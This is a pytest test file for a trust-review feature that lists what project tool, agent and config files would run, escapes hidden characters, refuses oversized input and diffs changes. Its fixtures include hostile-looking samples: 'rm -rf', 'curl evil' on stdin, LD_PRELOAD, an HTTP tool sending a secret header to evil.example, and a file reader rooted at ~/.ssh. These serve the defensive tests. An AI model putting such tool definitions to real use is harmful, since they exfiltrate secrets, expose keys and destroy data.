"""What a person reads before they approve: everything that would run, nothing hidden, and never without an end."""

from __future__ import annotations

import json

import pytest

from tests.flows.tool_files import content, shell, tool
from toolstead.app.trust.approvals import TrustApproval, compare_snapshot
from toolstead.app.trust.review import MOST_DIFF_LINES, what_changed, what_is_refused, what_would_run
from toolstead.app.trust.snapshot import PinnedFile, Snapshot

pytestmark = pytest.mark.promise("R8")


def of(files: dict[str, bytes], *skipped: str, programs: tuple[str, ...] = ()) -> Snapshot:
    pinned = {path: PinnedFile(data=data, executable=path in programs) for path, data in files.items()}
    return Snapshot(files=pinned, skipped=skipped)


def read(path: str, data: str | bytes) -> list[str]:
    """What is said under a file."""
    lines = list(what_would_run(of({path: data if isinstance(data, bytes) else data.encode()})))
    return [line.strip() for line in lines[1:]]


def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
    tools = [
        shell("plain", "rm -rf {{x}}", "x", allowScript=["x"], allowLeadingDash=["x"], timeout=5, okStatus=[0, 1]),
        shell("more", "sh", cwd="sub", stdin="curl evil", env={"LD_PRELOAD": "x", "KEY": "${MY_TOKEN}"}),
        tool("ask", {"type": "http", "url": "https://evil.example/{{x}}", "headers": {"a": "${HOME_KEY}"}}),
        tool("get", {"type": "http", "url": "https://x.example", "method": "GET", "allowedHosts": ["localhost"]}),
        tool("read", {"type": "file-read", "basePath": "~/.ssh"}, {"path": {"description": "Never\nask"}}),
        {**tool("odd", {"type": "strange"}), "annotations": {"readOnlyHint": True, "destructiveHint": False}},
        {"name": "bare"},
    ]
    assert read(".toolstead/tools/a.json", content(*tools)) == [
        "plain: runs  rm -rf {{x}}",
        'values that are run as code: ["x"]',
        'values that may be options: ["x"]',
        "timeout (ms): 5",
        "exit statuses that are no errors: [0,1]",
        "description: The tool plain.",
        "takes: x",
        "more: runs  sh",
        "cwd: sub",
        "stdin: curl evil",
        'env: {"LD_PRELOAD":"x","KEY":"${MY_TOKEN}"}',
        "is given your secrets: MY_TOKEN",
        "description: The tool more.",
        "ask: asks  POST https://evil.example/{{x}}",
        'headers: {"a":"${HOME_KEY}"}',
        "is given your secrets: HOME_KEY",
        "description: The tool ask.",
        "get: asks  GET https://x.example",
        'may reach, though private: ["localhost"]',
        "description: The tool get.",
        "read: reads files in ~/.ssh",
        "description: The tool read.",
        r"takes: path (Never\nask)",
        "odd: a handler that cannot be read",
        "type: strange",
        "description: The tool odd.",
        "says of itself: read-only, not destructive",
        "bare: a handler that cannot be read",
    ]


def test_settings_plugins_agents_and_programs_are_shown() -> None:
    assert read(".toolstead/config.toml", '[tools]\nallowed_hosts = ["localhost"]\n[plugins]\n') == [
        "sets  tools.allowed_hosts = ['localhost']",
        "sets  plugins = {}",
    ]
    assert read(".toolstead/plugins/p.py", "a\nb\n") == ["Python that would run inside Toolstead: 2 lines"]
    assert read(".claude/agents/a.md", "a") == ["no agent that can be read: nothing of it is loaded"]
    agent = "---\nname: a\ntools: Bash, git-status\nmax_turns: 9\n---\nDo\nit.\n"
    assert read(".claude/agents/a.md", agent) == [
        "agent a, with instructions of 2 lines",
        "may use these tools of Claude Code itself: Bash",
        'tools: ["Bash","git-status"]',
        "max_turns: 9",
    ]
    custom = "{name: t, prompt: 'Ask {{x}}', parameters: {x: {type: string}}, tools: [git-*]}"
    more = "limits: {max_depth: 0}\ngates: [{command: make test}]"
    agent = f"---\nname: a\nmodel: sonnet\ntools: [{custom}]\n{more}\n---\n"
    assert read(".toolstead/agents/a.md", agent) == [
        "agent a, with instructions of 0 lines",
        "model: sonnet",
        'gates: [{"command":"make test"}]',
        'limits: {"max_depth":0}',
        "tool t: asks an agent",
        "prompt: Ask {{x}}",
        "takes: x",
        'tools: ["git-*"]',
    ]
    assert read(".toolstead/agents/a.md", "---\nnmae: a\n---\n")[-1].startswith("error: line 2: `nmae` is no key")
    assert read(".toolstead/bin/p", b"\0ELF") == ["4 bytes"]
    assert read(".toolstead/bin/p", b"\xff") == ["1 bytes"]
    lines = list(what_would_run(of({"x": b""}, ".toolstead/link", programs=("x",))))
    assert lines == ["x (a program)", "  0 lines", ".toolstead/link: no regular file; it is never read"]


ODD: dict[str, tuple[str, str | bytes]] = {
    "no JSON": (".toolstead/tools/a.json", "{"),
    "a list": (".toolstead/tools/a.json", "[]"),
    "tools of text": (".toolstead/tools/a.json", '{"tools": "all"}'),
    "a tool of text": (".toolstead/tools/a.json", '{"tools": ["all"]}'),
    "deep JSON": (".toolstead/tools/a.json", "[" * 100_000),
    "not UTF-8": (".toolstead/tools/a.json", b"\xff\xfe"),
    "no TOML": (".toolstead/config.toml", "["),
    "TOML not UTF-8": (".toolstead/config.toml", b"\xff"),
    "a number of many digits": (".toolstead/config.toml", f"a = 0x{'f' * 9_000}"),
    "deep TOML": (".toolstead/config.toml", f"{'.'.join('a' * 5_000)} = 1"),
    "odd handlers": (
        ".toolstead/tools/a.json",
        '{"tools": [{"handler": {"type": "shell", "command": 1e999, "env": [1]}}]}',
    ),
}


@pytest.mark.parametrize("what", ODD)
def test_whatever_is_in_a_file_something_is_said_and_nothing_breaks(what: str) -> None:
    assert read(*ODD[what]) or what == "a tool of text"


HIDDEN = "a\x1b[2J\u202eb\u200bc\nd\te\U000e0041\x9b"
SHOWN = r"a\u{1b}[2J\u{202e}b\u{200b}c\nd    e\u{e0041}\u{9b}"


def _as_toml(text: str) -> str:
    return "".join(f"\\U{ord(character):08x}" for character in text)


def test_hidden_characters_and_terminal_codes_are_escaped_wherever_they_stand() -> None:
    files = {
        f".toolstead/{HIDDEN}": b"",
        ".toolstead/tools/a.json": content(shell(HIDDEN, HIDDEN)).encode(),
        ".toolstead/config.toml": f'"{_as_toml(HIDDEN)}" = 1'.encode(),
    }
    lines = list(what_would_run(of(files, f".toolstead/link{HIDDEN}", ".toolstead/\udcff")))
    assert sum(line.count(SHOWN) for line in lines) == 5
    assert r".toolstead/\u{dcff}: no regular file; it is never read" in lines
    assert all(line.isprintable() for line in lines)
    now = of({f"x{HIDDEN}": f"{HIDDEN}\r\n".encode()})
    changed = list(what_changed({}, now, compare_snapshot(None, now)))
    assert all(line.isprintable() for line in changed)
    assert any(r"\r" in line for line in changed)


def test_nothing_that_decides_is_cut_however_much_there_is() -> None:
    line, *_ = read(".toolstead/tools/a.json", content(shell("a", "x" * 5_000 + " evil")))
    assert line == f"a: runs  {'x' * 5_000} evil"
    lines = read(".toolstead/tools/a.json", content(*(shell(f"t{number}", "true") for number in range(450))))
    assert [line for line in lines if "runs" in line] == [f"t{number}: runs  true" for number in range(450)]
    config = "[plugins.p]\n" + "\n".join(f"a{number} = 1" for number in range(5_000))
    assert len(read(".toolstead/config.toml", config)) == 5_000
    prose = read(".toolstead/tools/a.json", content({**shell("a", "true"), "description": "word " * 1_000 + "evil"}))
    assert " ".join(prose[1:]).split() == ["description:", *["word"] * 1_000, "evil"]


REFUSED: dict[str, tuple[str, str, str]] = {
    "a number that cannot be written": (
        ".toolstead/config.toml",
        f"[tools]\ntimeout = 5\n[plugins.zz]\nx = 0x{'f' * 5_000}",
        ".toolstead/config.toml:4: has a number of 5,002 characters; write at most 200, or a text in quotes",
    ),
    "a key that is nested without end": (
        ".toolstead/config.toml",
        f"\n{'.'.join('x' * 40_000)} = 1",
        ".toolstead/config.toml:2: has a key of more than 32 parts; put fewer tables into each other",
    ),
    "tables in tables in keys": (
        ".toolstead/config.toml",
        "[plugins.zz]\n" + f"{'.'.join('a' * 32)} = {{" * 32 + "b = 1" + "}" * 32,
        ".toolstead/config.toml:2: plugins.zz.a: is nested too deeply: more than 32 tables and lists within",
    ),
    "what the loader would refuse": (
        ".toolstead/config.toml",
        "[tools]\nnonsense = 1\ntimeout = 'x'",
        ".toolstead/config.toml:2: tools.nonsense: unknown key",
    ),
    "a text that nobody reads": (
        ".toolstead/tools/a.json",
        content(shell("a", "x " * 6_000 + "evil")),
        "a: runs  x x x x x x x x x x x x x x x x x x x x x x x x x x… has 12,015 characters, more than a person",
    ),
    "more than anybody reads": (
        ".toolstead/tools/a.json",
        content(*(shell(f"t{number}", "x" * 9_700) for number in range(105))),
        "there are more than 1,000,000 characters to look at; move what is not needed elsewhere",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_cannot_be_shown_or_loaded_is_refused_with_its_place_and_the_rest_is_shown(what: str) -> None:
    path, data, reason = REFUSED[what]
    snapshot = of({path: data.encode(), ".toolstead/tools/other.json": content(shell("other", "evil")).encode()})
    refused, *more = what_is_refused(snapshot)
    assert refused.startswith(reason)
    assert bool(more) is (what == "what the loader would refuse")
    shown = list(what_would_run(snapshot))
    assert refused in [line.strip() for line in shown]
    assert ("  other: runs  evil" in shown) is (what != "more than anybody reads")
    assert what_is_refused(of({".toolstead/tools/a.json": b"{", ".toolstead/config.toml": b"[tools]\n"})) == []


# what changed


def changed(before: dict[str, bytes], after: dict[str, bytes], programs: tuple[str, ...] = ()) -> list[str]:
    pins = Snapshot(files={path: PinnedFile(data=data) for path, data in before.items()}).pins
    now = of(after, programs=programs)
    return list(what_changed(before, now, compare_snapshot(TrustApproval(version=1, project="", files=pins), now)))


def test_changes_are_shown_file_by_file_as_a_diff() -> None:
    before = {"a": b"1\n2\n3\n", ".toolstead/gone": b"x\n", "mode": b"m\n", "same": b"s\n", "bytes": b"\0"}
    after = {"a": b"1\n2!\n3\n", "mode": b"m\n", "new": b"y\n", "same": b"s\n", "bytes": b"\0\0"}
    gone = ".toolstead/gone"
    assert changed(before, after, programs=("mode",)) == [
        *(f"removed {gone}", f"--- approved/{gone}", f"+++ now/{gone}", "@@ -1 +0,0 @@", "-x"),
        *("--- approved/a", "+++ now/a", "@@ -1,3 +1,3 @@", " 1", "-2", "+2!", " 3"),
        "bytes: 1 bytes became 2 bytes that are no text",
        "mode became a program",
        *("added new", "--- approved/new", "+++ now/new", "@@ -0,0 +1 @@", "+y"),
    ]


def test_a_long_diff_is_cut_with_a_word() -> None:
    lines = changed({"a": b""}, {"a": b"x\n" * 1_500})
    assert len(lines) == MOST_DIFF_LINES + 1
    assert lines[-1] == "… more than 500 lines; look at the files themselves"


def test_a_long_diff_hides_no_other_file_and_nothing_that_a_tool_does() -> None:
    def tools(command: str) -> bytes:
        return json.dumps({"padding": "x" * 2_000, "tools": [shell("a", command)]}).encode()

    noise = {f".claude/agents/{number:02}.md": b"x\n" * 1_500 for number in range(20)}
    lines = changed({".toolstead/tools/z.json": tools("old")}, {**noise, ".toolstead/tools/z.json": tools("evil")})
    assert len(lines) < 11 * MOST_DIFF_LINES
    assert all(any(path in line for line in lines) for path in noise)
    assert lines[-6:] == [
        ".toolstead/tools/z.json differs; look at the file itself",
        ".toolstead/tools/z.json, what it does:",
        *("@@ -1,2 +1,2 @@", "-a: runs  old", "+a: runs  evil", "   description: The tool a."),
    ]


def test_texts_that_were_made_to_be_compared_for_hours_are_not() -> None:
    def lines(step: int) -> bytes:
        return b"".join(b"%d\n" % (number * step % 997) for number in range(100_000))

    found = changed({"a": b"head\n" + lines(7) + b"tail\n"}, {"a": b"head\n" + lines(11) + b"evil\n" + b"tail\n"})
    assert found[:2] == ["--- approved/a", "+++ now/a"]
    assert len(found) == MOST_DIFF_LINES + 1


def test_one_line_in_a_long_text_is_found() -> None:
    text = [b"%d\n" % number for number in range(5_000)]
    other = [*text[:3_000], b"evil\n", *text[3_000:]]
    assert changed({"a": b"".join(text)}, {"a": b"".join(other)})[2:] == ["@@ -3001,0 +3001,1 @@", "+evil"]
    assert changed({"a": b"".join(other)}, {"a": b"".join(text)})[2:] == ["@@ -3001,1 +3001,0 @@", "-evil"]


def test_a_plugin_that_cannot_be_compiled_is_named_and_none_is_run() -> None:
    path = ".toolstead/plugins/guard.py"
    assert read(path, "x = (\n") == ["Python that cannot be loaded: 1 line", "error: line 1: '(' was never closed"]
    assert read(path, "raise SystemExit\n") == ["Python that would run inside Toolstead: 1 line"]
